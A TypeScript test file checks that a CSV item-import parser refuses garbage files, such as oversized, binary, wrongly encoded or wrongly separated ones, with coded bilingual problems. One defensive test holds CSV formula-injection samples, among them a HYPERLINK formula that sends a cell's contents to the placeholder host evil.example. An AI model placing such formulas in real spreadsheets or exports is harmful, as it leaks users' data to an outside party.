/**
 * Garbage files for the item CSV import: each is refused with a coded problem (the screen says it
 * in English and Chinese), nothing is left to import, and nothing throws.
 */
import { describe, expect, it } from 'vitest';
import {
  CSV_MAX_BYTES,
  CSV_MAX_CELL,
  CSV_MAX_ERRORS,
  CSV_MAX_ROWS,
  csvFileTooLarge,
  decodeCsv,
  parseItemsCsv,
  parseItemsCsvFile,
  type CsvProblem,
} from '../../../shared/domain/floor.js';
import { floorStrings } from '../../../renderer/features/floor/strings.js';

const utf8 = (s: string): Uint8Array => new TextEncoder().encode(s);
const GOOD = 'sku,name,uom\nA-1,Apple,pc\n';

/** The file is refused as a whole: no row to import, exactly the one coded problem. */
function refused(bytes: Uint8Array, code: CsvProblem) {
  const r = parseItemsCsvFile(bytes);
  expect(r.rows).toEqual([]);
  expect(r.errors.map((e) => e.code)).toContain(code);
  return r;
}

describe('item CSV import: garbage files', () => {
  it('a good file still imports (the control for every refusal below)', () => {
    const r = parseItemsCsvFile(utf8(`\uFEFF${GOOD}`));
    expect(r.errors).toEqual([]);
    expect(r.rows.map((x) => x.sku)).toEqual(['A-1']);
  });

  it('refuses a file over 20 MB before reading it, and a file with more than 200,000 rows', () => {
    expect(CSV_MAX_BYTES).toBe(20 * 1024 * 1024);
    expect(csvFileTooLarge(CSV_MAX_BYTES)).toBeNull();
    expect(csvFileTooLarge(CSV_MAX_BYTES + 1)).toMatchObject({
      row: 0,
      code: 'tooLarge',
      params: { limitMb: 20 },
    });
    // The size check also guards the bytes path.
    refused(new Uint8Array(CSV_MAX_BYTES + 1).fill(0x41), 'tooLarge');
    const rows = Array.from({ length: CSV_MAX_ROWS + 1 }, (_, i) => `S${i},n,pc`).join('\n');
    const r = parseItemsCsv(`sku,name,uom\n${rows}\n`);
    expect(r.rows).toEqual([]);
    expect(r.errors).toEqual([
      expect.objectContaining({ row: 0, code: 'tooManyRows', params: { limit: CSV_MAX_ROWS } }),
    ]);
    // The boundary, cheaply: blank rows count as rows, so exactly the limit passes the row check.
    expect(parseItemsCsv(`sku,name,uom\n${'\n'.repeat(CSV_MAX_ROWS)}`).errors[0]?.code).toBe('noItems');
    expect(parseItemsCsv(`sku,name,uom\n${'\n'.repeat(CSV_MAX_ROWS + 1)}`).errors[0]?.code).toBe(
      'tooManyRows',
    );
  }, 60_000);

  it('refuses binary files: PNG bytes, NUL bytes, other control bytes', () => {
    const png = new Uint8Array([
      0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1,
    ]);
    refused(png, 'binary');
    refused(utf8('sku,name,uom\nA\u0000,Apple,pc\n'), 'binary');
    refused(new Uint8Array(64), 'binary');
    refused(utf8('sku,name,uom\nA,\u0007bell,pc\n'), 'binary');
    // Tabs, form feeds and CR/LF are text.
    expect(decodeCsv(utf8('sku,name,uom\r\nA,a\tb,pc\f\n'))).toEqual({
      text: 'sku,name,uom\r\nA,a\tb,pc\f\n',
    });
  });

  it('refuses UTF-16 (with a BOM, either byte order, and without one) and bytes that are not UTF-8', () => {
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(GOOD, 'utf16le')]);
    refused(new Uint8Array(le), 'utf16');
    const be = Buffer.from(GOOD, 'utf16le').swap16();
    refused(new Uint8Array(Buffer.concat([Buffer.from([0xfe, 0xff]), be])), 'utf16');
    refused(new Uint8Array(Buffer.from(GOOD, 'utf16le')), 'utf16');
    // GBK / Latin-1 text: bytes that do not decode as UTF-8.
    refused(
      new Uint8Array([...utf8('sku,name,uom\nA,'), 0xc4, 0xe3, 0xba, 0xc3, 0xff, ...utf8(',pc\n')]),
      'notUtf8',
    );
  });

  it('a header-only file, a 1-column file, a file separated by semicolons or tabs', () => {
    expect(refused(utf8('sku,name,uom\r\n'), 'noItems').errors).toHaveLength(1);
    expect(refused(utf8('sku,name,uom'), 'noItems').errors).toHaveLength(1);
    const one = refused(utf8('sku\nA\nB\n'), 'missingColumn');
    expect(one.errors.map((e) => e.params?.column)).toEqual(['name', 'uom']);
    const junk = refused(utf8('hello world\nfoo\n'), 'unknownColumn');
    expect(junk.errors.map((e) => e.code)).toEqual([
      'unknownColumn',
      'missingColumn',
      'missingColumn',
      'missingColumn',
    ]);
    expect(refused(utf8('sku;name;uom\nA;Apple;pc\n'), 'wrongSeparator').errors[0]?.params).toEqual({
      separator: ';',
    });
    expect(refused(utf8('sku\tname\tuom\nA\tApple\tpc\n'), 'wrongSeparator').errors[0]?.params).toEqual({
      separator: 'Tab',
    });
  });

  it(
    'extremely long lines: a huge cell, a huge header, thousands of columns, thousands of bad rows',
    { timeout: 60_000 },
    () => {
      // Any error blocks the import (the screen imports only a file without errors); a valid row beside a long cell stays unimported.
      expect(
        parseItemsCsv(`sku,name,uom\nA,${'x'.repeat(CSV_MAX_CELL + 1)},pc\nB,b,pc\n`).errors,
      ).toHaveLength(1);
      const huge = 'x'.repeat(CSV_MAX_CELL + 1);
      const cell = refused(utf8(`sku,name,uom\nA,${huge},pc\n`), 'longCell');
      expect(cell.errors).toEqual([expect.objectContaining({ row: 2, field: 'name', code: 'longCell' })]);
      // No message carries the megabytes.
      const long = refused(utf8(`sku,name,uom,${'y'.repeat(5_000_000)}\nA,a,pc,\n`), 'longCell');
      expect(JSON.stringify(long.errors).length).toBeLessThan(500);
      const wide = refused(
        utf8(`${Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(',')}\n`),
        'tooManyColumns',
      );
      expect(wide.errors).toHaveLength(1);
      const unknown = refused(utf8(`sku,name,uom,${'z'.repeat(5000)}\nA,a,pc,\n`), 'unknownColumn');
      expect(unknown.errors[0]?.message.length).toBeLessThan(100);
      const bad = Array.from({ length: 5000 }, (_, k) => `S${k},,pc`).join('\n');
      const many = parseItemsCsv(`sku,name,uom\n${bad}\n`);
      expect(many.rows).toEqual([]);
      expect(many.errors).toHaveLength(CSV_MAX_ERRORS + 1);
      expect(many.errors.at(-1)).toMatchObject({ code: 'tooManyErrors', params: { limit: CSV_MAX_ERRORS } });
    },
  );

  it('mixed line endings (CRLF, LF, lone CR) still give the right rows and row numbers', () => {
    const r = parseItemsCsvFile(utf8('sku,name,uom\r\nA,a,pc\nB,b,pc\rC,,pc\r\nD,"two\r\nlines",pc\n'));
    expect(r.rows.map((x) => [x.sku, x.name])).toEqual([
      ['A', 'a'],
      ['B', 'b'],
      ['D', 'two\r\nlines'],
    ]);
    expect(r.errors.map((e) => [e.row, e.field])).toEqual([[4, 'name']]);
  });

  it('refuses formula-injection cells in text columns (=, +, -, @), also after leading blanks', () => {
    const r = parseItemsCsv(
      'sku,name,uom,barcode,barcodes,minStock\n' +
        'A,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",pc,,,\n' +
        'B,b,+cmd,,,\n' +
        'C,c,pc,-1+1,,\n' +
        'D,d,pc,,111|@SUM(A1),\n' +
        '"\t=1+1",e,pc,,,\n' +
        'F,f,pc,,,-3\n' +
        'G,Good - with a dash,pc,,,\n',
    );
    expect(r.errors.filter((e) => e.code === 'formula').map((e) => [e.row, e.field, e.params?.char])).toEqual(
      [
        [2, 'name', '='],
        [3, 'uom', '+'],
        [4, 'barcode', '-'],
        [5, 'barcodes', '@'],
        [6, 'sku', '='],
      ],
    );
    expect(r.errors.find((e) => e.row === 2)?.params?.value).toBe(
      '=HYPERLINK("http://evil.example/?x="&A1,…',
    );
    // A negative number is a number error, not a formula; a dash inside text is fine.
    expect(r.errors.find((e) => e.row === 7)).toMatchObject({ field: 'minStock' });
    expect(r.rows.map((x) => x.sku)).toEqual(['G']);
  });

  it(
    'random bytes never throw and never yield rows alongside a file-level refusal',
    { timeout: 60_000 },
    () => {
      let seed = 42;
      const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31);
      for (let n = 0; n < 300; n++) {
        const bytes = new Uint8Array(next() % 400).map(() => next() % 256);
        const r = parseItemsCsvFile(bytes);
        if (r.errors.some((e) => e.row === 0)) expect(r.rows).toEqual([]);
      }
    },
  );

  it('every problem code has an English and a Chinese message', () => {
    const codes: CsvProblem[] = [
      'tooLarge',
      'tooManyRows',
      'binary',
      'utf16',
      'notUtf8',
      'empty',
      'noItems',
      'wrongSeparator',
      'tooManyColumns',
      'unknownColumn',
      'duplicateColumn',
      'missingColumn',
      'tooManyCells',
      'longCell',
      'formula',
      'tooManyErrors',
    ];
    for (const c of codes) {
      expect(floorStrings.en.importProblem[c], c).toMatch(/\w/);
      expect(floorStrings.zhCN.importProblem[c], c).toMatch(/[\u4e00-\u9fff]/);
    }
  });
});
